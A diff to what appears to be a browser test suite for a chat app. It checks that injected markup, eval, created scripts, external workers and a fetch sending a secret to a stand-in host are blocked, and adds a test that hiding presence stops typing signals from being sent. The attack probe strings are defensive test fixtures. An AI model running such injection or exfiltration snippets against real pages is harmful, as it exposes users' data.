@@ -14,7 +14,8 @@ ATTACKS = {
     "markup is parsed": "async () => { document.body.innerHTML = '<b>injected</b>' }",
     "text is run": "async () => { eval('globalThis.injected = true') }",
     "a script is made": """async () => {
-      document.body.append(Object.assign(document.createElement("script"), { text: "injected = 1" }))
+      const script = Object.assign(document.createElement("script"), { text: "injected = 1" });
+      document.body.append(script);
     }""",
     "a worker is made": "async () => { new Worker('https://elsewhere.example/worker.js') }",
     "something is told elsewhere": "async () => fetch('https://elsewhere.example/?secret')",
@@ -60,6 +61,40 @@ def test_nothing_is_asked_of_anybody_but_the_relay_and_no_address_says_a_secret(
     assert {urlsplit(url).netloc for url in asked} == {urlsplit(ada.address).netloc}
     assert not any("#" in url for url in asked)
     assert not any(code in url for url in asked if not url.endswith("/"))
+
+
+def test_who_does_not_want_to_be_seen_here_and_typing_sends_nothing_of_it(person: People) -> None:
+    ada, bob = person("Ada"), person("Bob")
+    gather(ada, bob)
+    bob.is_seen_by(ada, "here")
+    sent: list[bytes] = []
+    ada.page.on(
+        "websocket",
+        lambda socket: socket.on("framesent", lambda frame: sent.append(as_bytes(frame))),
+    )
+    switch = ada.panel.get_by_role("switch", name="Show when I am here and typing")
+    switch.uncheck()
+    ada.page.reload()
+    ada.is_online()
+    ada.composer.press_sequentially("Nobody sees me type")
+    look(ada, is_there=False)
+    look(ada, is_there=True)
+    ada.composer.press("Enter")
+    ada.has_sent("Nobody sees me type")
+    bob.sees("Nobody sees me type")
+    assert not any(b"room.signal" in frame for frame in sent)
+    # others are still seen, and so is Ada once she wants it again
+    bob.is_seen_by(ada, "here")
+    switch.check()
+    ada.page.reload()
+    ada.is_online()
+    ada.composer.press_sequentially("Now they do")
+    bob.reads("Ada is typing")
+    assert any(b"room.signal" in frame for frame in sent)
+
+
+def as_bytes(frame: bytes | str) -> bytes:
+    return frame.encode() if isinstance(frame, str) else frame
 
 
 def test_a_notification_says_only_that_there_is_something_new(person: People) -> None:
